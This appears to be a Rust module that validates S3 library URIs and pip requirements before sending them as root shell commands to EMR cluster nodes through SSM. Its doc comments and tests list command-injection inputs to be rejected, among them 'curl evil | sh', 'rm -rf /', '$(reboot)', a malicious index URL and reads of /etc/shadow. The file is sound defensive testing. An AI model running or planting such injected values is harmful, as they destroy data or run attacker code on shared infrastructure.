//! Deploying to a running cluster (MLiy's `%addlib` and `%pip_install` magics): a jar or zip
//! from S3 into EMRFS's aux-lib folder, or a Python package, on every node through SSM.
//!
//! Both inputs end up in a root shell on every node, so both are checked against a strict
//! grammar first (MLiy passed them on unchecked):
//!
//! ```
//! use mliy_core::deploy::Deployment;
//! assert!(Deployment::library("s3://team-libs/spark/udfs-1.2.jar").is_ok());
//! assert!(Deployment::library("s3://team-libs/x.jar; rm -rf /").is_err());
//! assert!(Deployment::pip("pandas[performance]>=2.0,<3").is_ok());
//! assert!(Deployment::pip("pandas; curl evil | sh").is_err());
//! ```

use crate::cloud::{CommandInvocation, CommandSpec, CommandStatus};
use crate::error::{Error, Result};
use regex::Regex;
use serde::Serialize;
use std::sync::LazyLock;

/// Where EMRFS picks up extra jars on every node.
pub const AUX_LIB_DIR: &str = "/usr/share/aws/emr/emrfs/auxlib/";
/// The SSM document that runs the commands.
pub const SHELL_DOCUMENT: &str = "AWS-RunShellScript";

static S3_URI: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^s3://([a-z0-9][a-z0-9.-]{1,61}[a-z0-9])/([A-Za-z0-9_.+=@-]+/)*[A-Za-z0-9_.+=@-]+\.(jar|zip)$")
        .unwrap_or_else(|e| unreachable!("literal regex: {e}"))
});
static PEP508: LazyLock<Regex> = LazyLock::new(|| {
    let name = r"[A-Za-z0-9](?:[A-Za-z0-9._-]*[A-Za-z0-9])?";
    let version = r"[A-Za-z0-9.*+!_-]+";
    let clause = format!(r"(?:~=|===|==|!=|<=|>=|<|>)\s*{version}");
    Regex::new(&format!(r"^({name})(\[\s*{name}(?:\s*,\s*{name})*\s*\])?(\s*{clause}(?:\s*,\s*{clause})*)?$"))
        .unwrap_or_else(|e| unreachable!("literal regex: {e}"))
});

/// What to deploy. Built only by [`Deployment::library`] and [`Deployment::pip`], which
/// check the value, so an unchecked value cannot reach a node's shell:
///
/// ```compile_fail
/// let forged = mliy_core::deploy::Deployment::Library { s3_uri: "x'; curl evil|sh; '".into() };
/// ```
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(transparent)]
pub struct Deployment(Kind);

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
enum Kind {
    /// A `.jar` or `.zip` copied from S3 into [`AUX_LIB_DIR`].
    Library { s3_uri: String },
    /// A Python package installed with pip: a PEP 508 name, optional extras and version
    /// clauses, nothing else (no URLs, paths, markers or options).
    Pip { requirement: String },
}

impl Deployment {
    /// A library from S3.
    ///
    /// # Errors
    /// [`Error::Validation`] unless `s3_uri` is `s3://<bucket>/<key>.jar|.zip` with a valid
    /// bucket name and a key of letters, digits and `_ . + = @ - /` (no `..`).
    pub fn library(s3_uri: &str) -> Result<Deployment> {
        let uri = s3_uri.trim();
        if !S3_URI.is_match(uri) || uri.contains("..") {
            return Err(Error::validation(
                "s3_uri",
                s3_uri,
                "must be s3://<bucket>/<key>.jar or .zip; the key may hold letters, digits and _ . + = @ - /",
            ));
        }
        Ok(Deployment(Kind::Library { s3_uri: uri.to_string() }))
    }

    /// A pip requirement.
    ///
    /// # Errors
    /// [`Error::Validation`] unless `requirement` is a PEP 508 name with optional extras and
    /// version clauses.
    pub fn pip(requirement: &str) -> Result<Deployment> {
        let req = requirement.trim();
        if req.len() > 200 || !PEP508.is_match(req) {
            return Err(Error::validation(
                "requirement",
                requirement,
                "must be a package name with optional [extras] and version clauses (e.g. pandas>=2,<3); \
                 URLs, paths, markers and pip options are refused",
            ));
        }
        Ok(Deployment(Kind::Pip { requirement: req.to_string() }))
    }

    /// Checks the value again (the engine does before sending it).
    ///
    /// # Errors
    /// As [`Deployment::library`] and [`Deployment::pip`].
    pub fn check(&self) -> Result<()> {
        let again = match &self.0 {
            Kind::Library { s3_uri } => Deployment::library(s3_uri)?,
            Kind::Pip { requirement } => Deployment::pip(requirement)?,
        };
        if again != *self {
            return Err(Error::validation("deployment", self.value(), "must be given without surrounding spaces"));
        }
        Ok(())
    }

    /// What is deployed, in words: `library s3://…` or `python package …`.
    pub fn describe(&self) -> String {
        match &self.0 {
            Kind::Library { s3_uri } => format!("library {s3_uri}"),
            Kind::Pip { requirement } => format!("python package {requirement}"),
        }
    }

    /// The checked value: the S3 URI or the requirement.
    pub fn value(&self) -> &str {
        match &self.0 {
            Kind::Library { s3_uri } => s3_uri,
            Kind::Pip { requirement } => requirement,
        }
    }

    /// The shell command each node runs. Values were checked against grammars without
    /// quotes, so single-quoting them is enough.
    pub fn shell_command(&self) -> String {
        match &self.0 {
            Kind::Library { s3_uri } => format!("aws s3 cp '{s3_uri}' {AUX_LIB_DIR}"),
            Kind::Pip { requirement } => format!("sudo python3 -m pip install '{requirement}'"),
        }
    }

    /// The SSM command for every node of `cluster_id`.
    pub fn command(&self, cluster_id: &str) -> CommandSpec {
        CommandSpec {
            document: SHELL_DOCUMENT.to_string(),
            cluster_id: cluster_id.to_string(),
            parameters: vec![("commands".to_string(), vec![self.shell_command()])],
        }
    }
}

/// How a deployment went on each node.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DeployReport {
    /// SSM's command id.
    pub command_id: String,
    /// One entry per node.
    pub nodes: Vec<CommandInvocation>,
}

impl DeployReport {
    /// Whether every node succeeded.
    pub fn succeeded(&self) -> bool {
        !self.nodes.is_empty() && self.nodes.iter().all(|n| n.status == CommandStatus::Success)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn libraries_must_be_plain_s3_jars_or_zips() {
        for ok in ["s3://bucket-1/a.jar", "s3://my.bucket/dir/sub/lib_2.12-1.0.zip", "s3://abc/x+y=z@v.jar"] {
            assert!(Deployment::library(ok).is_ok(), "{ok}");
        }
        for bad in [
            "s3://b/a.jar",
            "s3://bucket/a.tar",
            "s3://bucket/../etc/passwd.jar",
            "s3://bucket//a.jar",
            "s3://bucket/a b.jar",
            "s3://bucket/a.jar' ; rm -rf / '",
            "s3://bucket/$(reboot).jar",
            "https://bucket/a.jar",
            "s3://Bucket/a.jar",
            "s3://bucket/a.jar\nreboot",
        ] {
            let e = Deployment::library(bad).unwrap_err();
            assert_eq!(e.kind(), "validation", "{bad}");
            assert!(e.to_string().contains("s3_uri"), "{e}");
        }
    }

    #[test]
    fn pip_takes_pep508_names_and_versions_only() {
        for ok in ["pandas", "scikit-learn==1.4.2", "pandas[performance,excel]>=2.0, <3", "a", "zope.interface~=6.0"] {
            assert!(Deployment::pip(ok).is_ok(), "{ok}");
        }
        for bad in [
            "",
            "pandas; rm -rf /",
            "pandas && reboot",
            "-r /etc/shadow",
            "--index-url http://evil/ pandas",
            "git+https://evil/pkg.git",
            "./local",
            "pandas @ https://evil/p.whl",
            "pandas==1.0 ; python_version<'3'",
            "pandas'",
            "pandas$(id)",
            "-pandas",
            "pandas\nreboot",
        ] {
            let e = Deployment::pip(bad).unwrap_err();
            assert_eq!(e.kind(), "validation", "{bad:?}");
        }
    }

    #[test]
    fn a_deployment_is_checked_when_built_and_when_sent() {
        // The fields are private: `Deployment::Library { s3_uri: "x'; curl …|sh; '" }` does not
        // compile. What can be built passes the check again.
        let lib = Deployment::library("s3://libs/a.jar").unwrap();
        assert!(lib.check().is_ok());
        assert_eq!((lib.value(), lib.describe().as_str()), ("s3://libs/a.jar", "library s3://libs/a.jar"));
        let forged = Deployment(Kind::Library { s3_uri: "s3://libs/a.jar'; curl evil|sh; '".into() });
        assert_eq!(forged.check().unwrap_err().kind(), "validation");
        assert_eq!(serde_json::to_value(&lib).unwrap(), serde_json::json!({"library": {"s3_uri": "s3://libs/a.jar"}}));
    }

    #[test]
    fn commands_target_the_cluster_and_quote_the_value() {
        let d = Deployment::pip("numpy>=1.26").unwrap();
        let spec = d.command("j-ABC");
        assert_eq!(spec.cluster_id, "j-ABC");
        assert_eq!(spec.document, SHELL_DOCUMENT);
        assert_eq!(spec.parameters[0].1, vec!["sudo python3 -m pip install 'numpy>=1.26'".to_string()]);
        let lib = Deployment::library("s3://libs/a.jar").unwrap();
        assert_eq!(lib.shell_command(), format!("aws s3 cp 's3://libs/a.jar' {AUX_LIB_DIR}"));
    }
}
